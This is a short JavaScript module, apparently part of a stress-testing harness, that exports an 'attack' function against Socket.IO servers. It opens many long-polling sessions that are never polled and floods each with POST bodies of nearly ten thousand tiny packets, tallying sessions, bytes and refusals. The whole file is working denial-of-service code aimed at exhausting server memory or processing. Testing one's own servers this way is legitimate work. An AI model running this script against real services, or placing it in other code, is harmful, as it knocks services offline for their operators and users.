// Polling sessions that are never polled, with POSTs of many small packets of which each is answered.
import { answers, drop, isOver, lanes, open, requestText, write } from './wire_http.mjs';

const path = '/socket.io/?EIO=4&transport=polling';

export async function attack({ ports, until, port = 'output', packet = '40/x,', packets = 9_800, posts = 10, sessions = 100, connections = 1 }) {
  const body = Array(packets).fill(packet).join('\x1e');
  const said = { sessions: 0, posts: 0, bytes: 0, refused: 0 };
  await lanes(connections, until, async () => {
    if (said.sessions >= sessions) return false;
    const socket = await open(ports[port]);
    if (!socket) return false;
    const next = answers(socket);
    while (!isOver(until) && said.sessions < sessions) {
      socket.write(requestText('GET', path));
      const sid = /"sid":"([^"]+)"/.exec((await next()) ?? '')?.[1];
      if (!sid) break;
      ++said.sessions;
      const post = Buffer.from(requestText('POST', `${path}&sid=${sid}`, body));
      for (let i = 0; i < posts && !isOver(until); ++i) {
        if (!(await write(socket, post))) break;
        const answer = await next();
        if (!answer?.startsWith('HTTP/1.1 200')) {
          ++said.refused;
          break;
        }
        ++said.posts;
        said.bytes += post.length;
      }
    }
    drop(socket);
    return false;
  });
  return said;
}
